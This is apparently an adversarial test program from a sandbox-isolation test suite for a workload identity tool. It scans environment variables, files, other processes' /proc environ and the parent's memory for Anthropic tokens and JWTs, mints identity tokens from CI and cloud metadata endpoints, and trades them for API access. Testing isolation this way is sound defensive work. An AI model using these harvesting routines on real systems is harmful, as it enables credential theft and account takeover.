// The attacker child (issue 12 item 4): runs under `claude-wif exec` as the same user and tries
// every route it can think of to an Anthropic access token, an identity JWT, or the means to mint
// one. It knows what any attacker on the machine could know (the endpoints' addresses, the
// organization and rule ids, which are not secret) and nothing else; it prints one JSON report.
//   node attacker.mjs '<json: {parentPid, roots[], tcp{name:url}, githubUrl, metadataUrl, tokenEndpoint, organizationId, ruleId}>'
import { closeSync, openSync, readdirSync, readFileSync, readSync, lstatSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const know = JSON.parse(process.argv[2] ?? '{}');
const TOKEN = /sk-ant-oat01-[A-Za-z0-9_-]{8,}/g;
const JWT = /eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}/g;
const IDENTITY_VARS = ['ACTIONS_ID_TOKEN_REQUEST_URL', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'IDENTITY_ENDPOINT', 'IDENTITY_HEADER', 'AZURE_FEDERATED_TOKEN_FILE', 'SPIFFE_ENDPOINT_SOCKET', 'ANTHROPIC_IDENTITY_TOKEN', 'ANTHROPIC_IDENTITY_TOKEN_FILE', 'CIRCLE_OIDC_TOKEN', 'CIRCLE_OIDC_TOKEN_V2', 'TFC_WORKLOAD_IDENTITY_TOKEN', 'BUILDKITE_AGENT_ACCESS_TOKEN'];

const report = { env: { tokens: [], jwts: [], identityVars: [] }, files: { read: 0, tokens: [], jwts: [] }, proc: { pids: [], environ: [], tokens: [], jwts: [], requestTokens: [], memTokens: [] }, sockets: [], tcp: {}, minted: { jwts: [], tokens: [] }, api: {} };
const add = (arr, v) => { if (!arr.includes(v)) arr.push(v); };
const scan = (text, into) => { for (const m of text.matchAll(TOKEN)) add(into.tokens, m[0]); for (const m of text.matchAll(JWT)) add(into.jwts, m[0]); };

// 1. Its own environment.
for (const [k, v] of Object.entries(process.env)) {
  for (const m of (v ?? '').matchAll(TOKEN)) add(report.env.tokens, m[0]);
  for (const m of (v ?? '').matchAll(JWT)) add(report.env.jwts, m[0]);
  if (IDENTITY_VARS.includes(k) || k.startsWith('TFC_WORKLOAD_IDENTITY_TOKEN') || k.startsWith('CIRCLE_OIDC_TOKEN')) add(report.env.identityVars, k);
}
const requestTokens = [];
if (process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN) requestTokens.push(process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN);

// 2. Files under HOME, XDG, tmp, runtime and secret directories, other homes.
const roots = new Set([process.env.HOME, process.env.XDG_CONFIG_HOME, process.env.XDG_CACHE_HOME, process.env.XDG_RUNTIME_DIR, process.env.TMPDIR, '/tmp', '/var/tmp', '/dev/shm', '/run/user', '/run/secrets', '/var/run/secrets', '/home', '/root', ...(know.roots ?? [])].filter(Boolean));
let budget = 20000;
const walk = (p, depth) => {
  if (budget-- <= 0) return;
  let st;
  try { st = lstatSync(p); } catch { return; }
  if (st.isSymbolicLink()) return;
  if (st.isSocket()) return add(report.sockets, p);
  if (st.isDirectory()) {
    if (depth > 8 || p.includes('/node_modules')) return;
    let names = [];
    try { names = readdirSync(p); } catch { return; }
    for (const n of names) { const q = join(p, n); if (q !== harness) walk(q, depth + 1); }
  } else if (st.isFile() && st.size < 1 << 20) {
    try { const t = readFileSync(p, 'latin1'); report.files.read++; scan(t, report.files); } catch {}
  }
};
// The checkout these test programs run from is the child's own working directory (bound in by
// --isolate like any project). It holds this test suite, whose sources carry fake token-shaped
// strings; when the checkout lives under /tmp it would be scanned as if it were loot.
const harness = fileURLToPath(new URL('../../../', import.meta.url)).replace(/\/$/, '');
const scanRoot = (r) => { if (r === harness || r.startsWith(`${harness}/`)) return; walk(r, 0); };
for (const r of roots) scanRoot(r);

// 3. /proc: every process it can see, its parent's environ/cmdline, and the parent's memory.
let pids = [];
try { pids = readdirSync('/proc').filter((n) => /^\d+$/.test(n)).map(Number); } catch {}
report.proc.pids = pids;
const targets = new Set([...pids, process.ppid, know.parentPid].filter((p) => p && p !== process.pid));
for (const pid of targets) {
  for (const f of ['environ', 'cmdline']) {
    try {
      const t = readFileSync(`/proc/${pid}/${f}`, 'latin1');
      if (f === 'environ') add(report.proc.environ, pid);
      scan(t, report.proc);
      const m = /(?:^|\0)ACTIONS_ID_TOKEN_REQUEST_TOKEN=([^\0]+)/.exec(t);
      if (m) { add(report.proc.requestTokens, m[1]); requestTokens.push(m[1]); }
    } catch {}
  }
}
for (const pid of new Set([process.ppid, know.parentPid].filter(Boolean))) {
  let maps;
  try { maps = readFileSync(`/proc/${pid}/maps`, 'utf8'); } catch { continue; }
  let fd;
  try { fd = openSync(`/proc/${pid}/mem`, 'r'); } catch { continue; }
  let total = 0;
  for (const line of maps.split('\n')) {
    const m = /^([0-9a-f]+)-([0-9a-f]+) rw-p/.exec(line);
    if (!m) continue;
    const start = parseInt(m[1], 16), end = parseInt(m[2], 16);
    for (let at = start; at < end && total < 512 << 20; at += 1 << 20) {
      const len = Math.min(1 << 20, end - at);
      const buf = Buffer.alloc(len);
      try { readSync(fd, buf, 0, len, at); } catch { break; }
      total += len;
      for (const t of buf.toString('latin1').matchAll(TOKEN)) add(report.proc.memTokens, t[0]);
    }
  }
  closeSync(fd);
}

// 4. Unix sockets it can connect to (besides the proxy's).
const tryConnect = (opts) => new Promise((resolve) => {
  const s = connect(opts);
  const done = (ok) => { s.destroy(); resolve(ok); };
  s.once('connect', () => done(true));
  s.once('error', () => done(false));
  setTimeout(() => done(false), 5000).unref();
});
report.connectableSockets = [];
for (const p of report.sockets) if (p !== process.env.CLAUDE_WIF_PROXY_SOCKET && (await tryConnect({ path: p }))) add(report.connectableSockets, p);

// 5. Endpoints: are they reachable at all?
for (const [name, url] of Object.entries(know.tcp ?? {})) {
  const u = new URL(url);
  report.tcp[name] = await tryConnect({ host: u.hostname, port: Number(u.port) });
}

// 6. Mint identity JWTs: GitHub's token service with any request token found, the metadata server.
const get = async (url, headers) => { try { const r = await fetch(url, { headers, signal: AbortSignal.timeout(15000) }); return r.ok ? await r.text() : undefined; } catch { return undefined; } };
if (know.githubUrl) for (const t of new Set(requestTokens)) {
  const body = await get(`${know.githubUrl}&audience=https://api.anthropic.com`, { authorization: `Bearer ${t}` });
  if (body) try { add(report.minted.jwts, JSON.parse(body).value); } catch {}
}
if (know.metadataUrl) {
  const body = await get(`${know.metadataUrl}/computeMetadata/v1/instance/service-accounts/default/identity?audience=https://api.anthropic.com`, { 'metadata-flavor': 'Google' });
  if (body) add(report.minted.jwts, body.trim());
}

// 7. The token endpoint, directly, with every JWT found or minted.
const candidates = new Set([...report.minted.jwts, ...report.files.jwts, ...report.env.jwts, ...report.proc.jwts]);
if (know.tokenEndpoint) for (const jwt of candidates) {
  try {
    const r = await fetch(know.tokenEndpoint, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'anthropic-beta': 'oauth-2025-04-20,oidc-federation-2026-04-01' },
      body: JSON.stringify({ grant_type: 'urn:ietf:params:oauth:grant-type:jwt-bearer', assertion: jwt, federation_rule_id: know.ruleId, organization_id: know.organizationId }),
      signal: AbortSignal.timeout(15000),
    });
    if (r.ok) add(report.minted.tokens, (await r.json()).access_token);
  } catch {}
}

// 8. The API: through the proxy with the session secret, directly with any token obtained.
const call = async (base, auth) => {
  try {
    const r = await fetch(`${base}/v1/messages`, { method: 'POST', headers: { authorization: `Bearer ${auth}`, 'anthropic-beta': 'oauth-2025-04-20', 'anthropic-version': '2023-06-01', 'content-type': 'application/json' }, body: JSON.stringify({ model: 'm', max_tokens: 4, messages: [{ role: 'user', content: 'hi' }] }), signal: AbortSignal.timeout(15000) });
    return r.status;
  } catch (e) { return String(e.cause?.code ?? e.message); }
};
if (process.env.ANTHROPIC_BASE_URL && process.env.ANTHROPIC_AUTH_TOKEN?.startsWith('cwp_')) report.api.proxy = await call(process.env.ANTHROPIC_BASE_URL, process.env.ANTHROPIC_AUTH_TOKEN);
// Every token found is tried (other programs' stale or fake tokens lie around too) until one works.
if (know.apiUrl) for (const t of [...new Set([...report.minted.tokens, ...report.env.tokens, ...report.proc.memTokens, ...report.files.tokens, ...report.proc.tokens])].slice(0, 20)) {
  report.api.direct = await call(know.apiUrl, t);
  if (report.api.direct === 200) break;
}
process.stdout.write(`${JSON.stringify(report)}\n`);
